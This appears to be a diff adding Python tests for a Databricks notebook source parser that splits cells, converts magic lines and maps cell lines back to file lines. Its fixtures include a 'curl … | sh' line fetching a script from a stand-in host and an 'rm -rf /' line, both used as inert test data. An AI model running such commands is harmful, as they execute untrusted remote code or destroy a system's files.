@@ -1,0 +1,98 @@
+from __future__ import annotations
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from hooks._core.databricks_source import is_databricks_source, read_databricks_source
+
+SEPARATOR = "\n\n# COMMAND ----------\n\n"
+
+
+def source(*cells: str) -> str:
+    return "# Databricks notebook source\n" + SEPARATOR.join(cells) + "\n"
+
+
+def test_the_header_is_the_first_line_only() -> None:
+    assert is_databricks_source("# Databricks notebook source\nx = 1\n")
+    assert is_databricks_source("\ufeff# Databricks notebook source\r\nx = 1\r\n")
+    assert not is_databricks_source("x = 1\n# Databricks notebook source\n")
+    assert not is_databricks_source("# Databricks notebook source code lives here\n")
+    assert not is_databricks_source("#Databricks notebook source\n")
+
+
+def test_cells_and_their_file_lines() -> None:
+    text = source("import os", "# MAGIC %md\n# MAGIC # Title\n# MAGIC text", "x = 1\ny = 2")
+    read = read_databricks_source(text)
+    cells = read.notebook.cells
+    assert [(c.number, c.cell_type, c.source) for c in cells] == [
+        (1, "code", "import os"),
+        (2, "markdown", "\n# Title\ntext"),
+        (3, "code", "x = 1\ny = 2"),
+    ]
+    lines = text.split("\n")
+    assert lines[read.file_line(1, 1) - 1] == "import os"
+    assert lines[read.file_line(2, 2) - 1] == "# MAGIC # Title"
+    assert lines[read.file_line(3, 2) - 1] == "y = 2"
+
+
+def test_magic_cells_become_what_ipython_runs() -> None:
+    text = source(
+        "# MAGIC %sh\n# MAGIC curl -s https://x.example/i.sh | sh",
+        "# MAGIC %sh ls -la\n# MAGIC pwd",
+        "# MAGIC %pip install torch==2.3.1",
+        "# MAGIC %run ./Includes/setup",
+        "# MAGIC %python\n# MAGIC import pickle",
+        "# MAGIC %sql\n# MAGIC SELECT 1",
+        "# MAGIC %scala\n# MAGIC val x = 1",
+    )
+    read = read_databricks_source(text)
+    cells = read.notebook.cells
+    assert [c.source for c in cells] == [
+        "%%sh\ncurl -s https://x.example/i.sh | sh",
+        "%%sh\nls -la\npwd",
+        "%pip install torch==2.3.1",
+        "%run ./Includes/setup",
+        "\nimport pickle",
+        "\nSELECT 1",
+        "\nval x = 1",
+    ]
+    assert [c.language for c in cells] == [None, None, None, None, None, "sql", "scala"]
+    lines = text.split("\n")
+    # `%sh ls -la`: its first command stands on the magic's own line, the next one below it.
+    assert lines[read.file_line(2, 2) - 1] == "# MAGIC %sh ls -la"
+    assert lines[read.file_line(2, 3) - 1] == "# MAGIC pwd"
+    assert lines[read.file_line(1, 2) - 1] == "# MAGIC curl -s https://x.example/i.sh | sh"
+
+
+def test_look_alikes_of_magic_lines_stay_python() -> None:
+    # A comment that mentions MAGIC, and a cell whose first line is Python: Databricks runs Python.
+    text = source("# MAGICAL numbers\nx = 1", "y = 2\n# MAGIC %sh\n# MAGIC rm -rf /")
+    cells = read_databricks_source(text).notebook.cells
+    assert [c.source for c in cells] == ["# MAGICAL numbers\nx = 1", "y = 2\n# MAGIC %sh\n# MAGIC rm -rf /"]
+
+
+def test_empty_cells_and_a_header_alone() -> None:
+    assert read_databricks_source("# Databricks notebook source").notebook.cells == []
+    read = read_databricks_source(source("", "x = 1", "   "))
+    assert [(c.number, c.source.strip()) for c in read.notebook.cells] == [(1, "x = 1")]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(
+        st.one_of(
+            st.text(max_size=60),
+            st.sampled_from(
+                ["# MAGIC %sh", "# MAGIC", "# MAGIC %", "# MAGIC %md", "# COMMAND ----------", "\r", "%%sh"]
+            ),
+        ),
+        max_size=30,
+    )
+)
+def test_garbage_reads_without_error_and_every_line_maps_into_the_file(parts: list[str]) -> None:
+    text = "# Databricks notebook source\n" + "\n".join(parts)
+    read = read_databricks_source(text)
+    total = text.count("\n") + 1
+    for cell in read.notebook.cells:
+        for line in range(1, cell.source.count("\n") + 2):
+            assert 1 <= read.file_line(cell.number, line) <= total
